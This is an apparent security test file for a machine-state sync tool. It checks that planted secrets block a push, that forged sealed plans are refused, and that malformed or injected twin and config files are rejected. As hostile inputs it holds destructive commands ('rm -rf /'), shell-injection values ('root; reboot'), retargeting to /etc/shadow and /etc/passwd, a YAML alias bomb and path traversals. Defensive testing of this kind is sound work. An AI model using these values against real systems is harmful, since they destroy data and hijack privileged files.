    ['a merge commit message', (t) => git(t, ['update-ref', 'refs/heads/main', commitIn(t, `Merge ${TOKEN_LIKE}`, ['HEAD', commitIn(t, 'side')])])],
    ['a file name', (t) => git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'x', ['HEAD'], treeWith(t, `token-${TOKEN_LIKE}`, '100644', 'x'))])],
    ['a symlink target', (t) => git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'x', ['HEAD'], treeWith(t, 'link', '120000', `/tmp/${TOKEN_LIKE}`))])],
    ['a base64-wrapped private key', (t) => {
      const wrapped = Buffer.from(KEY_LIKE).toString('base64').replace(/.{60}/g, '$&\n')
      git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'x', ['HEAD'], treeWith(t, 'key.b64', '100644', `key: |\n${wrapped}\n`))])
    }],
    ['a twice base64-wrapped token', (t) => {
      const twice = Buffer.from(Buffer.from(`token=${TOKEN_LIKE}`).toString('base64')).toString('base64')
      git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'x', ['HEAD'], treeWith(t, 'blob.txt', '100644', `data ${twice}\n`))])
    }],
    ['the author name of a commit', (t) => {
      const tree = git(t, ['rev-parse', 'HEAD^{tree}']).trim()
      const c = execFileSync('git', ['-C', t, 'commit-tree', tree, '-p', 'HEAD', '-m', 'x'], { env: { ...GIT_ENV, GIT_AUTHOR_NAME: TOKEN_LIKE } }).toString().trim()
      git(t, ['update-ref', 'refs/heads/main', c])
    }],
  ]
  for (const [where, plant] of secretCases) {
    it(`push refuses a secret hidden in ${where}, and the mirror receives nothing`, async () => {
      plant(rig.twin)
      const outcome = await (await rig.container()).resolve(RemoteService).push()
      assert.equal(outcome.status, 'failed')
      assert.equal(outcome.error?.code, 'SECRET_IN_PUSH', JSON.stringify(outcome))
      assert.ok(!outcome.error?.message.includes(TOKEN_LIKE), 'the refusal shows the secret')
      assert.equal(execFileSync('git', ['--git-dir', rig.mirror, 'for-each-ref']).toString(), '')
    })
  }

  it('push of a clean twin goes through (the scan is not a blanket refusal)', async () => {
    git(rig.twin, ['tag', '-a', 'v1', '-m', 'a clean release'])
    const outcome = await (await rig.container()).resolve(RemoteService).push()
    assert.equal(outcome.status, 'pushed', JSON.stringify(outcome))
  })

  // ---- 6. saved plans are sealed -----------------------------------------------------------------

  const savedPlan = async (): Promise<{ file: string; plan: Plan & { seal?: unknown } }> => {
    await writeFile(join(rig.twin, 'filesystem/etc/motd'), 'From the twin\n')
    await writeFile(join(rig.twin, 'plans/x.yaml'), 'actions:\n  - run: [logger, hello]\n')
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    const file = join(rig.dir, 'plan.json')
    await writePlanFile(file, plan, rig.twin)
    return { file, plan: JSON.parse(await readFile(file, 'utf8')) }
  }
  const forgeries: Array<[string, (p: Plan & { seal?: unknown }) => unknown, string]> = [
    ['a change id edited', (p) => ((p.changes[0] as { id: string }).id += 'x', p), 'PLAN_TAMPERED'],
    ['a resource edited', (p) => (((p.changes[0] as { resource: string }).resource = '/etc/shadow'), p), 'PLAN_TAMPERED'],
    ['the change data edited', (p) => (((p.changes.find((c) => c.provider === 'files') as { data: { path: string } }).data.path = '/root/.bashrc'), p), 'PLAN_TAMPERED'],
    ['a command edited', (p) => (((p.changes.find((c) => c.provider === 'commands') as { data: { argv: string[] } }).data.argv = ['rm', '-rf', '/']), p), 'PLAN_TAMPERED'],
    ['a change removed', (p) => (p.changes.pop(), p), 'PLAN_TAMPERED'],
    ['a change added', (p) => (p.changes.push({ ...(p.changes[0] as Plan['changes'][number]), id: 'files:replace:/etc/passwd' }), p), 'PLAN_TAMPERED'],
    ['the basis edited', (p) => ((p.basis.root = '/'), p), 'PLAN_TAMPERED'],
    ['the seal removed', (p) => (delete p.seal, p), 'PLAN_TAMPERED'],
    ['a malformed seal', (p) => ((p.seal = { algorithm: 'sha256', digest: 'x' }), p), 'PLAN_TAMPERED'],
    ['a seal recomputed as a plain sha256', (p) => {
      const { seal: _s, ...rest } = p
      return { ...rest, seal: { algorithm: 'hmac-sha256', digest: createHash('sha256').update(JSON.stringify(rest)).digest('hex') } }
    }, 'PLAN_TAMPERED'],
    ['not an object', () => [1, 2], 'PLAN_INVALID'],
  ]
  for (const [what, forge, expected] of forgeries) {
    it(`apply refuses a saved plan with ${what} (${expected})`, async () => {
      const { file, plan } = await savedPlan()
      await writeFile(file, JSON.stringify(forge(plan)))
      assert.equal(await code(readPlanFile(file, { root: '/', repo: rig.twin })), expected)
    })
  }

  it('apply refuses a plan sealed by another twin', async () => {
    const { file } = await savedPlan()
    await rm(join(rig.twin, '.git/twinsync/plan-seal.key'))
    assert.equal(await code(readPlanFile(file, { root: '/', repo: rig.twin })), 'PLAN_TAMPERED')
  })

  it('a sealed, unedited plan reads back exactly as written', async () => {
    const { file, plan } = await savedPlan()
    const { seal: _seal, ...expected } = plan
    assert.deepEqual(await readPlanFile(file, { root: '/', repo: rig.twin }), expected)
  })

  it('a plan file with NUL bytes is refused', async () => {
    const file = join(rig.dir, 'nul.json')
    await writeFile(file, '{"formatVersion":1,\0}')
    assert.equal(await code(readPlanFile(file, { root: '/', repo: rig.twin })), 'PLAN_INVALID')
  })

  // ---- 7. values of the wrong type, oversized, NUL bytes, alias bombs ---------------------------

  const badInstructions: Array<[string, string]> = [
    ['a YAML alias bomb', `a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nactions: [*f]\n`],
    ['a NUL byte in an argument', 'actions:\n  - run: [echo, "a\\0b"]\n'],
    ['a program name with a shell line', 'actions:\n  - run: ["sh -c reboot"]\n'],
    ['a number where the argument list goes', 'actions:\n  - run: 42\n'],
    ['a map where the actions list goes', 'actions: {run: [true]}\n'],
    ['a script outside scripts/', 'actions:\n  - script: ../twin.json\n'],
    ['an unknown key', 'actions:\n  - run: [true]\n    shell: true\n'],
  ]
  for (const [what, text] of badInstructions) {
    it(`plan refuses an instruction file with ${what}`, async () => {
      await writeFile(join(rig.twin, 'plans/bad.yaml'), text)
      const got = await code((await rig.container()).resolve(PlanWorkflow).plan({}))
      assert.ok(got === 'PLAN_INVALID' || got === 'SCRIPT_INVALID', got)
    })
  }

  const badTwinJson: Array<[string, string]> = [
    ['formatVersion as a string', '{"formatVersion":"1","machineId":null,"hostname":null}'],
    ['an array', '[1]'],
    ['a hostname with a newline', '{"formatVersion":1,"machineId":null,"hostname":"a\\nb"}'],
    ['a machine that is no string', '{"formatVersion":1,"machine":5,"hostname":null}'],
    ['not JSON', '{'],
  ]
  for (const [what, text] of badTwinJson) {
    it(`every command refuses a twin.json with ${what} (REPO_INVALID, naming the key)`, async () => {
      await writeFile(join(rig.twin, 'twin.json'), text)
      assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'REPO_INVALID')
    })
  }

  it('a manifest with values of the wrong type plans nothing for files and says so', async () => {
    await writeFile(join(rig.twin, 'system/files/manifest.json'), JSON.stringify({ entries: [{ path: '/etc/motd', type: 'file', mode: 420, uid: '0' }] }))
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.ok(plan.diagnostics.some((d) => d.code === 'FILES_MANIFEST_INVALID' && d.severity === 'error'))
    assert.deepEqual(plan.changes.filter((c) => c.provider === 'files'), [])
  })

  it('apply of a plan with the tampered-manifest error changes nothing', async () => {
    await writeFile(join(rig.twin, 'system/files/manifest.json'), '{"entries": "all"}')
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    const { ApplyService } = await import('../../core/src/apply/apply-service.js')
    const applied = (await rig.container()).resolve(ApplyService).apply({ plan, fromFile: false, signal: new AbortController().signal })
    assert.equal(await code(applied), 'PLAN_INVALID')
  })

  for (const [name, value] of [
    ['trusted.overlay.redirect', '0s' + Buffer.from('/etc/shadow').toString('base64')],
    ['security.selinux', '"system_u:object_r:shadow_t:s0"'],
  ] as const) {
    it(`apply refuses a twin that sets ${name} on a file (XATTR_REFUSED), and the file keeps its attributes`, async () => {
      const path = join(rig.twin, 'system/files/manifest.json')
      const manifest = JSON.parse(await readFile(path, 'utf8')) as { entries: Array<{ path: string; xattrs?: Record<string, string> }> }
      const motd = manifest.entries.find((e) => e.path === '/etc/motd')
      assert.ok(motd)
      motd.xattrs = { [name]: value }
      await writeFile(path, JSON.stringify(manifest))
      const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
      assert.deepEqual(await refusal(Promise.resolve(plan)), ['XATTR_REFUSED '])
      assert.deepEqual(plan.changes.filter((c) => c.resource === '/etc/motd'), [])
      const { ApplyService } = await import('../../core/src/apply/apply-service.js')
      const applied = (await rig.container()).resolve(ApplyService).apply({ plan, fromFile: false, signal: new AbortController().signal })
      assert.equal(await code(applied), 'XATTR_REFUSED')
      assert.equal(execFileSync('getfattr', ['-d', '-m', '-', join(rig.root, 'etc/motd')], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }), '')
    })
  }

  it('an oversized twin document is refused, not read into memory', async () => {
    const { MAX_TWIN_FILE_BYTES } = await import('../../core/src/twin/twin-files.js')
    const big = join(rig.twin, 'plans/big.yaml')
    await writeFile(big, '')
    execFileSync('truncate', ['-s', String(MAX_TWIN_FILE_BYTES + 1), big])
    assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'TWIN_FILE_TOO_LARGE')
  })

  // ---- 8. every twin document validated on load, every config value when the config loads -------

  const loadCases: Array<[string, string, string, Record<string, string>, RegExp]> = [
    ['a unit state with a shell line', 'systemd', 'system/services/units.json', { 'system/services/units.json': JSON.stringify({ units: { 'ssh.service': { state: 'enabled; reboot' } } }) }, /units\.json: "ssh\.service\.state"/],
    ['a unit state of the wrong type', 'systemd', 'system/services/units.json', { 'system/services/units.json': JSON.stringify({ units: { 'ssh.service': { state: 1 } } }) }, /units\.json: "ssh\.service\.state"/],
    ['an unknown key in a unit entry', 'systemd', 'system/services/units.json', { 'system/services/units.json': JSON.stringify({ units: { 'ssh.service': { state: 'enabled', run: 'reboot' } } }) }, /units\.json/],
    ['a runtime state that is not a word', 'systemd', 'system/services/runtime.json', { 'system/services/units.json': JSON.stringify({ units: {} }), 'system/services/runtime.json': JSON.stringify({ units: { 'ssh.service': { active: 'active && reboot', sub: 'running' } } }) }, /runtime\.json: "ssh\.service\.active"/],
    ['boot units given as a string', 'systemd', 'system/startup/systemd.json', { 'system/services/units.json': JSON.stringify({ units: {} }), 'system/startup/systemd.json': JSON.stringify({ wantedAtBoot: 'ssh.service', enabledTimers: [] }) }, /systemd\.json: "wantedAtBoot"/],
    ['an rc.local mode given as a number', 'autostart', 'system/startup/rc-local.json', { 'system/startup/rc-local.json': JSON.stringify({ mode: 493 }), 'filesystem/etc/rc.local': '#!/bin/sh\n' }, /rc-local\.json: "mode"/],
    ['rc.local executable given as a string', 'autostart', 'system/startup/rc-local.json', { 'system/startup/rc-local.json': JSON.stringify({ executable: 'yes' }), 'filesystem/etc/rc.local': '#!/bin/sh\n' }, /rc-local\.json: "executable"/],
    ['an rc.local owner with a shell line', 'autostart', 'system/startup/rc-local.json', { 'system/startup/rc-local.json': JSON.stringify({ owner: 'root; reboot' }), 'filesystem/etc/rc.local': '#!/bin/sh\n' }, /rc-local\.json: "owner"/],
    ['an unknown key in rc-local.json', 'autostart', 'system/startup/rc-local.json', { 'system/startup/rc-local.json': JSON.stringify({ runAs: 'root' }) }, /rc-local\.json: "runAs": unknown key/],
    ['an autostart entry enabled as a string', 'autostart', 'system/startup/autostart.json', { 'system/startup/autostart.json': JSON.stringify({ entries: [{ path: '/etc/xdg/autostart/a.desktop', enabled: 'true' }] }) }, /autostart\.json: "entries\.0\.enabled"/],
    ['an autostart entry path outside .desktop files', 'autostart', 'system/startup/autostart.json', { 'system/startup/autostart.json': JSON.stringify({ entries: [{ path: '/etc/shadow' }] }) }, /autostart\.json: "entries\.0\.path"/],
  ]
  for (const [what, providerName, file, docs, named] of loadCases) {
    it(`${providerName} refuses ${what} on load, naming ${file} and the key`, async () => {
      const { MemoryTwin } = await import('@twinsync/sdk')
      const { createTestContext } = await import('@twinsync/sdk/conformance')
      const { builtinProviders } = await import('../../core/src/providers/builtin-providers.js')
      const provider = (await builtinProviders()).map((b) => b.provider).find((p) => p.name === providerName)
      assert.ok(provider !== undefined && 'load' in provider)
      const twin = new MemoryTwin(Object.entries(docs).map(([path, content]) => ({ path, content })))
      const loaded = await (provider as import('@twinsync/sdk').ApplicableProvider).load({ ctx: createTestContext(rig.root), twin })
      const errors = loaded.diagnostics.filter((d) => d.severity === 'error')
      assert.equal(errors.length, 1, JSON.stringify(loaded.diagnostics))
      assert.equal(errors[0]?.code, 'TWIN_INVALID')
      assert.match(errors[0]?.summary ?? '', named)
      assert.match(errors[0]?.detail ?? '', /Correct|snapshot/)
    })
  }

  for (const include of ['/etc/../root', '~/../../root', '/..', '/etc/./shadow']) {
    it(`the config is refused when it loads: files.include ${JSON.stringify(include)} (CONFIG_INVALID naming the key)`, async () => {
      const configPath = join(rig.dir, 'bad-config.yaml')
      await writeFile(configPath, `providers:\n  disabled: [apt, systemd, cron, autostart, processes, logs, hardware, network]\nfiles:\n  include: ["/etc", ${JSON.stringify(include)}]\n`)
      const container = await createContainer({ root: rig.root, repo: rig.twin, configPath, oclif: noPlugins, logger: silentLogger })
      const error = await container.resolve(PlanWorkflow).plan({}).then(
        () => undefined,
        (e: unknown) => e as { code: string; message: string; nextStep?: string },
      )
      assert.equal(error?.code, 'CONFIG_INVALID')
      assert.match(error?.message ?? '', /bad-config\.yaml: "files\.include\.1"/)
      assert.match(error?.nextStep ?? '', /Correct "files\.include\.1"/)
    })
  }
})
